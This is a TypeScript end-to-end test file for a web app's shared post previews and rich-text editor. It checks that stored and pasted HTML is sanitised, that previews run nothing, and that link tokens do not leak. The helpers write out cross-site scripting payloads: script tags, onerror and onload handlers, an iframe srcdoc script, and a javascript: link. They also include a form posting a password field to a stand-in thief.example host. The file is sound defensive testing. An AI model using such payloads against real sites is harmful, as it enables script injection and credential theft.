import type { BrowserContext } from 'playwright-core'
import sharp from 'sharp'
import { expect, inject, test } from 'vitest'
import { detailDate } from '../../../apps/web/src/i18n/dates.ts'
import { arrive, ask } from '../person/arrive.ts'
import { nextWeek } from '../person/calendar.ts'
import { checkScreen } from '../person/check-screen.ts'
import { asPerson, englishDesk, spanishPhone } from '../person/journey.ts'
import { openPerson, type Person } from '../person/open-person.ts'
import { bodyOf, saveAndClose, seeBody } from '../person/post-page.ts'
import { seeGone, seeHeading, seeText, waitUntil } from '../person/see.ts'
import { query } from '../product-database.ts'

const PICTURE = 'https://pictures.example/bag.png'
const title = 'How wool is washed'

/** A post whose text got past every cleaning of the server, as if somebody had found a hole in it. */
const planPoisoned = async (person: Person): Promise<string> => {
  const at = nextWeek(2, 11).toISOString()
  const { data } = await ask<{ data: { id: string } }>(person, ['post', '/api/posts'], {
    publishAt: at,
    timeZone: 'Europe/Madrid',
  })
  const body = `<h2>Water</h2><p>In cold water.</p><p><img src="${PICTURE}" alt="A bag"></p>
    <script>parent.document.title = 'taken'</script><img src="/none" alt="" onerror="parent.document.title = 'taken'">
    <svg onload="parent.document.title = 'taken'"></svg><iframe srcdoc="<script>top.document.title = 'taken'</script>"></iframe>
    <p><a href="javascript:parent.document.title = 'taken'">Read on</a> <a href="https://shop.example/">The shop</a></p>
    <form action="https://thief.example/"><input name="password"></form>`
  await query(
    inject('dataDir'),
    `update post set title = $2, body = $3, language = 'en', status = 'created' where id = $1`,
    [data.id, title, body],
  )
  return data.id
}

/** Gives a post a drawn cover with these words. Answers the picture's id. */
const drawCover = async (person: Person, id: string, words: { alt: string; caption: string }) => {
  await query(
    inject('dataDir'),
    `update post set description = 'How wool is washed at home', completed_steps = '{publish_date,description}'
     where id = $1`,
    [id],
  )
  await ask(person, ['patch', `/api/posts/${id}/images/featured`], { view: 'post' })
  const { featuredImage } = await ask<{ featuredImage: { id: string } }>(person, ['get', `/api/posts/${id}`])
  await ask(person, ['patch', `/api/images/${featuredImage.id}`], words)
  return featuredImage.id
}

/** What a browser asks for and from where. Pictures of another site come through our server, which answers with this one. */
const watchRequests = async (context: BrowserContext) => {
  const asked: { url: string; referer: string | undefined }[] = []
  context.on('request', (request) => asked.push({ url: request.url(), referer: request.headers().referer }))
  await context.route(/^https:/, (route) => route.abort())
  const picture = await sharp({ create: { width: 400, height: 900, channels: 3, background: '#a60' } })
    .png()
    .toBuffer()
  await context.route(/\/api\/(pictures|posts\/preview\/[^/]+\/picture)\?/, (route) =>
    route.fulfill({ contentType: 'image/png', body: picture }),
  )
  return asked
}

/** Newer browsers already tell of a handler that they refuse while the poisoned text is read, before it is taken out. */
const forgiveHandlers = ({ faults }: Person) => {
  const others = faults.filter((fault) => !/script-src-attr|inline event handler/.test(fault))
  faults.splice(0, faults.length, ...others)
}

const shareLink = async ({ page, t }: Person): Promise<string> => {
  const field = page.getByRole('textbox', { name: t('post-page:share.link') })
  await field.waitFor()
  return field.inputValue()
}

test.for(spanishPhone)(
  '[SHELL-18, IMAGE-13, POST-07, POST-19] a preview is read by anyone who has the link, runs nothing, and ends when the owner says so ($language, $size)',
  asPerson(async (person) => {
    const { page, t, language } = person
    await arrive(person)
    await watchRequests(person.context)
    const id = await planPoisoned(person)
    const cover = { alt: 'A basin of wool', caption: 'Wool waits for its water' }
    const imageId = await drawCover(person, id, cover)
    await page.goto(`/calendar/${id}`)
    await seeBody(person, 'In cold water.')
    await page.getByRole('button', { name: t('post-page:bar.share'), exact: true }).click()
    await page.getByRole('button', { name: t('post-page:share.create'), exact: true }).click()
    const link = await shareLink(person)
    const inThirtyDays = new Date(Date.now() + 30 * 86_400_000)
    await seeText(page, t('post-page:share.ends', { date: detailDate(inThirtyDays, language) }))
    await page.getByRole('switch', { name: t('post-page:share.noEnd') }).click()
    await seeText(page, t('post-page:share.lasts'))
    expect(await shareLink(person)).toBe(link)
    await checkScreen(page, 'shared link')

    const reader = await openPerson(person.appUrl, { language: 'en', size: person.size })
    const asked = await watchRequests(reader.context)
    // The reader has chosen Spanish; the page speaks the post's English.
    await reader.context.addInitScript(() => {
      if (window.origin !== 'null') localStorage.setItem('i18nextLng', 'es')
    })
    await reader.page.goto(link)
    await seeHeading(reader.page, title, 1)
    await seeBody(reader, 'In cold water.')
    await reader.page.locator('html[lang="en"]').waitFor({ state: 'attached' })
    await bodyOf(reader).getByRole('img', { name: 'A bag' }).waitFor()
    const figure = reader.page.getByRole('figure').filter({ hasText: cover.caption })
    const picture = figure.getByRole('img', { name: cover.alt, exact: true })
    await waitUntil('its cover is drawn', () =>
      picture.evaluate((image: HTMLImageElement) => image.naturalWidth > 0),
    )
    // There is nothing to change it with.
    for (const role of ['button', 'textbox', 'switch', 'combobox', 'link'] as const)
      expect(await reader.page.getByRole(role).count(), role).toBe(0)
    await checkScreen(reader.page, 'preview')

    // Nothing of the text ran, painted or can be sent.
    expect(await reader.page.title()).toContain(title)
    const body = bodyOf(reader).locator('body')
    expect(await body.locator('script, svg, iframe, form, input, [onerror], [onload]').count()).toBe(0)
    expect(await body.getByText('Read on').getAttribute('href')).toBeNull()
    const shop = body.getByRole('link', { name: 'The shop' })
    expect([await shop.getAttribute('target'), await shop.getAttribute('rel')]).toEqual([
      '_blank',
      'noopener noreferrer',
    ])
    const frame = reader.page.locator('iframe')
    expect(await frame.getAttribute('sandbox')).not.toContain('allow-scripts')
    // A picture that comes late makes the frame as high as its text.
    await expect
      .poll(async () => {
        const [inside, outside] = await Promise.all([body.boundingBox(), frame.boundingBox()])
        return Math.abs((inside?.height ?? 0) - (outside?.height ?? -1)) < 2 && (outside?.height ?? 0) > 600
      })
      .toBe(true)

    // No cookie, no call but the preview's own, and nobody is told the address.
    expect(await reader.context.cookies()).toEqual([])
    const token = new URL(link).pathname.split('/').at(-1) ?? ''
    const calls = asked.map(({ url }) => new URL(url)).filter(({ pathname }) => pathname.startsWith('/api/'))
    expect([...new Set(calls.map(({ pathname }) => pathname))].sort()).toEqual([
      `/api/images/${imageId}`,
      `/api/posts/preview/${token}`,
      `/api/posts/preview/${token}/picture`,
    ])
    expect(asked.filter(({ url }) => !url.startsWith(person.appUrl))).toEqual([])
    for (const { url, referer } of asked) expect([url, referer ?? '']).not.toContain(token)
    for (const { referer } of asked) expect(referer ?? '').not.toContain(token)

    await page.getByRole('button', { name: t('post-page:share.end') }).click()
    await seeText(page, t('post-page:share.ended'))
    await reader.page.reload()
    await seeHeading(reader.page, t('post-page:preview.gone'), 1)
    await page.getByRole('button', { name: t('post-page:share.again') }).click()
    const next = await shareLink(person)
    expect(next).not.toBe(link)
    // A cover that cannot be had leaves its place to a sign.
    await reader.page.route(`**/api/images/${imageId}*`, (route) => route.abort())
    await reader.page.goto(next)
    await seeBody(reader, 'In cold water.')
    await figure.locator('svg').waitFor()
    await seeGone(picture)
    for (const one of [person, reader]) forgiveHandlers(one)
    expect(reader.faults).toEqual([])
    await reader.leave()
  }),
)

test.for(englishDesk)(
  '[POST-13] a text is opened, written on, pasted into, seen as HTML and saved, and nothing of it runs ($language, $size)',
  asPerson(async (person) => {
    const { page, t } = person
    await arrive(person)
    await watchRequests(person.context)
    const id = await planPoisoned(person)
    await page.goto(`/calendar/${id}`)
    await seeBody(person, 'In cold water.')
    await page.getByRole('button', { name: t('post-page:bar.edit'), exact: true }).click()
    const text = page.getByLabel(t('post-page:editor.text'), { exact: true })
    await text.getByText('In cold water.').click()
    await page.keyboard.press('End')
    await page.keyboard.type(' Never in hot.')
    await text.evaluate((field) => {
      const clipboardData = new DataTransfer()
      clipboardData.setData(
        'text/html',
        `<p>Dry it <span style="font-weight: 700">flat</span><img src="/none" alt="" onerror="document.title = 'taken'"><script>document.title = 'taken'</script></p>`,
      )
      field.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }))
    })
    await text.getByText('flat').waitFor()
    await checkScreen(page, 'editor')
    const source = page.getByRole('button', { name: t('post-page:editor.source'), exact: true })
    await source.click()
    const html = page.getByRole('textbox', { name: t('post-page:editor.source'), exact: true })
    await html.fill(
      `${await html.inputValue()}<p><a href="https://shop.example/" target="_blank">Wool</a></p>`,
    )
    await source.click()
    await text.getByText('Wool').waitFor()
    await page.getByLabel(t('post-page:editor.titleLabel'), { exact: true }).fill('How linen is washed')
    const saving = page.waitForRequest((request) => request.method() === 'PATCH')
    await page.getByRole('button', { name: t('common:save'), exact: true }).click()
    const sent = await saving
    expect(new URL(sent.url()).pathname).toBe(`/api/posts/${id}`)
    expect(sent.postDataJSON()).toEqual({
      title: 'How linen is washed',
      body: expect.stringContaining('Never in hot.'),
      version: expect.any(Number),
      withEvidence: true,
      draftId: expect.any(String),
    })
    await saveAndClose(person)
    await seeHeading(page, 'How linen is washed', 1)
    await seeBody(person, 'In cold water. Never in hot.')
    await seeBody(person, 'flat')
    const { body } = await ask<{ body: string }>(person, ['get', `/api/posts/${id}`])
    expect(body).toContain('<strong>flat</strong>')
    expect(body).toMatch(
      /<a href="https:\/\/shop\.example\/" target="_blank" rel="noopener noreferrer">Wool<\/a>/,
    )
    expect(body).not.toMatch(/script|onerror|taken|javascript/)
    expect(await page.title()).not.toContain('taken')
    forgiveHandlers(person)
  }),
)
